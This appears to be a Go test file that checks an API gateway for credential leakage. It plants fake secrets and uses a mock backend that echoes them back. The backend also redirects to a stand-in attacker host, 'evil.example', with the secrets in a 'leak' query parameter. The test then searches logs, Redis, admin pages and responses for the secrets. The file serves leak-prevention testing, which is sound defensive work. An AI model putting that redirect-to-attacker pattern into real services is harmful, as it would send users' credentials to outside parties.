package app_test

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"headgate/dispatch/target"
	"headgate/gateway"
	"headgate/internal/testenv"
)

// planted are secrets that only this run knows, by where they stand. They hold what JSON,
// URLs and forms write in several ways.
var planted = map[string]string{
	"ATTACK_BEARER": "planted-bearer-aaaa", "ATTACK_BASIC": "planted:basic/bbbb", "ATTACK_HEADER": "planted<header>&cccc",
	"ATTACK_QUERY": "planted query+dddd=", "ATTACK_STEP": "planted-step-eeee", "ATTACK_JWT": "planted-jwt-key-ffff-of-at-least-32-bytes",
	"HEADGATE_ADMIN_TOKEN": "planted-admin-gggg", "HEADGATE_REDIS_PASSWORD": redisPassword,
}

// Secrets that clients and backends bring along, and that have no place in what is kept.
const (
	clientKey = "planted-client-key-hhhh"
	wrongKey  = "planted-wrong-key-iiii"
	signature = "planted-signature-jjjj"
	userinfo  = "planted-userinfo-kkkk"
)

const secretRoutes = `
auth:
  partners: {api_key: {keys: [{id: acme, sha256: "CLIENTKEY", tenant: acme, scopes: [write]}]}}
  mobile: {jwt: {issuer: https://id.example.com, audience: headgate, key: {env: ATTACK_JWT}, algorithms: [HS256], tenant: "${{ .claims.org }}"}}
targets:
  bearer: {url: "URL", auth: {bearer: {env: ATTACK_BEARER}}, post: "/${{ .payload.do }}", retry: RETRY, RESULT}
  basic: {url: "URL", auth: {basic: {user: 'Acme\integration', password: {env: ATTACK_BASIC}}}, post: "/${{ .payload.do }}", retry: RETRY, RESULT}
  header: {url: "URL", auth: {header: {name: X-Secret, value: {env: ATTACK_HEADER}}}, post: "/${{ .payload.do }}", retry: RETRY, RESULT}
  query: {url: "URL", auth: {query: {name: key, value: {env: ATTACK_QUERY}}}, post: "/${{ .payload.do }}", retry: RETRY, RESULT}
  upload:
    url: URL
    allow_hosts: [uploads.example.com]
    auth: {bearer: {env: ATTACK_BEARER}}
    retry: RETRY
    steps:
      - {name: announce, post: "/signed-${{ .payload.do }}", auth: {bearer: {env: ATTACK_STEP}}, save: {to: "${{ .response.body.to }}", job: "${{ .response.body.echo }}"}}
      - {name: put, put: "${{ .saved.to }}", json: {}}
routes:
  - name: records
    match: POST /records/:id
    auth: {any: [mobile, partners], scopes: [write]}
    targets: {bearer: , basic: , header: , query: , upload: }
`

// echoing answers with everything that it was sent, wherever an answer can hold it.
func echoing(w http.ResponseWriter, req *http.Request, own string) {
	var all strings.Builder
	fmt.Fprintln(&all, req.URL.String())
	user, password, _ := req.BasicAuth()
	fmt.Fprintln(&all, user, password, req.URL.Query().Get("key"))
	for _, name := range slices.Sorted(maps.Keys(req.Header)) {
		if name != "Body" {
			fmt.Fprintln(&all, name, req.Header[name])
		}
	}
	line := strings.ReplaceAll(all.String(), "\n", " | ")
	w.Header().Set("X-Echo", line)
	what, signed := strings.CutPrefix(req.URL.Path, "/signed-")
	what = strings.TrimPrefix(what, "/")
	answer := map[string]any{"echo": line, "message": line, line: []string{line}}
	status := map[string]int{"reject": 422, "auth": 401, "moved": 302, "dead": 500, "plain": 400}[what]
	if status == 0 || signed {
		status = 200
	}
	w.Header().Set("Location", "https://evil.example/?"+url.Values{"leak": {line}}.Encode())
	if status == 302 {
		w.Header().Set("Location", "https://"+userinfo+":x@evil.example/?"+url.Values{"leak": {line}}.Encode())
	}
	if signed {
		answer["to"] = own + "/" + what + "?signature=" + signature
	}
	body, _ := json.Marshal(answer)
	if what == "plain" && !signed {
		w.Header().Set("Content-Type", "text/plain")
		body = []byte(line)
	} else {
		w.Header().Set("Content-Type", "application/json")
	}
	w.WriteHeader(status)
	_, _ = w.Write(body)
}

// Everything that a run leaves behind, or shows to anybody, is searched for the secrets
// that it knew: answers to clients, every page of the admin listener, metrics, the log
// at its most talkative, previews, the configuration, all of Redis with asynq's tasks.
// The same with whole processes and commands: testdata/script/secrets-not-leaked.txtar.
func TestAttackSecretsLeftBehind(t *testing.T) {
	for name, value := range planted {
		t.Setenv(name, value)
	}
	var backend *seenBy
	backend = serve(t, "127.0.0.1:0", func(w http.ResponseWriter, req *http.Request) { echoing(w, req, backend.URL) })
	sum := sha256.Sum256([]byte(clientKey))
	const result = `result: {body: "${{ .response.body }}", head: "${{ .response.headers }}"}`
	routes := strings.NewReplacer("URL", backend.URL, "CLIENTKEY", hex.EncodeToString(sum[:]), "RESULT", result,
		"RETRY", "{attempts: 2, first: 1ms, max: 2ms, on: [401]}").Replace(secretRoutes)
	r := attacked(t, "tracking: {retention: 1h}\ntelemetry: {log: {level: debug}}\n", routes, nil)
	left := &evidence{t: t, texts: map[string]string{}}
	claims := map[string]any{"sub": "alice", "org": "acme", "scope": "write"}
	token, err := r.Table().Authenticators()["mobile"].(interface {
		Sign(claims map[string]any, ttl time.Duration) (string, error)
	}).Sign(claims, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	kinds := []string{"ok", "reject", "auth", "moved", "dead", "plain"}
	ids := make([]string, len(kinds))
	for i, kind := range kinds {
		credentials := []string{"X-Api-Key", clientKey, "Authorization", ""}
		if i%2 == 0 {
			credentials = []string{"Authorization", "Bearer " + token, "Cookie", "session=" + wrongKey}
		}
		text := left.ask(r, http.MethodPost, "/records/7", fmt.Sprintf(`{"do":%q}`, kind), http.StatusAccepted, append(credentials, "Idempotency-Key", kind)...)
		var accepted struct {
			ID string `json:"tracking_id"`
		}
		if err := json.Unmarshal([]byte(text), &accepted); err != nil {
			t.Fatal(err)
		}
		ids[i] = accepted.ID
		left.add("redis under way "+kind, dump(t, r.redis.Client(t)))
	}
	for i, kind := range kinds {
		who := []string{"X-Api-Key", clientKey, "Authorization", ""}
		if i%2 == 0 {
			who = []string{"Authorization", "Bearer " + token}
		}
		testenv.Eventually(t, 20*time.Second, func() bool {
			var view gateway.TrackingView
			text := left.ask(r, http.MethodGet, "/tracking/"+ids[i], "", http.StatusOK, append(who, "Prefer", "wait=5")...)
			return json.Unmarshal([]byte(text), &view) == nil && view.Status != "in_progress"
		}, "the end of "+kind)
	}
	// Refused credentials, and those of other places at the wrong door.
	for name, header := range map[string][]string{
		"no such key": {"X-Api-Key", wrongKey, "Authorization", ""}, "no token": {"Authorization", "Bearer " + wrongKey},
		"basic": {"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+wrongKey))},
	} {
		left.add("refused "+name, left.ask(r, http.MethodPost, "/records/7?key="+wrongKey, `{}`, http.StatusUnauthorized, header...))
	}
	left.ask(r, http.MethodPost, "/records/7", `{"do": 41}`, http.StatusAccepted, "X-Api-Key", clientKey, "Authorization", "")
	left.admin(r, ids)
	for name, plan := range r.Table().Plans() {
		v, err := plan.Preview(target.Input{Payload: []byte(`{"do":"ok"}`)})
		if err != nil {
			t.Fatal(err)
		}
		left.add("preview of "+name, fmt.Sprintf("%+v", v))
		left.add("plan of "+name, string(plan.Source)+fmt.Sprintf("%+v", plan))
	}
	left.add("configuration", fmt.Sprintf("%s %+v %#v", r.Config(), r.Config(), *r.Config()))
	left.add("redis", dump(t, r.redis.Client(t)))
	r.log.mu.Lock()
	left.add("log", r.log.text.String())
	r.log.mu.Unlock()

	// They were there to be leaked: the backend saw each of its own.
	seen := ""
	for _, req := range backend.requests() {
		user, password, _ := req.BasicAuth()
		seen += fmt.Sprintln(req.URL.Query(), user, password, req.Header)
	}
	for _, name := range []string{"ATTACK_BEARER", "ATTACK_BASIC", "ATTACK_HEADER", "ATTACK_QUERY", "ATTACK_STEP"} {
		if !strings.Contains(seen, planted[name]) {
			t.Errorf("%s was never sent", name)
		}
	}
	if strings.Contains(seen, "hhhh") || strings.Contains(seen, "iiii") || strings.Contains(seen, token) {
		t.Error("a client's credentials were sent on")
	}
	left.search(token)
}
